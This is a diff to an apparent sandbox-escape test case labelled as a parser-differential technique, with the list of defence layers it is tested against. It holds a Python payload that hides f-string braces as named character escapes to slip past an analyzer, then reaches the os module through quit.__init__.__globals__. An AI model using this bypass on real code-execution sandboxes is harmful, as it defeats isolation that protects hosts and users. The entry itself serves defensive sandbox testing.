@@ -1,9 +1,8 @@
 # class: parser differentials
 # technique: a named character whose braces are no field
-# layers: analyzer, landlock, seccomp, identity
+# layers: analyzer, interpreter, landlock, seccomp, identity
 # code: user
 # witness: secret
-# interpreter-gap: yes
 host = _items[0]["json"]
 f"\N{LEFT CURLY BRACKET}{(g := quit.__init__.__globals__) and 1}\N{RIGHT CURLY BRACKET}"
 os = g["sys"].modules["os"]
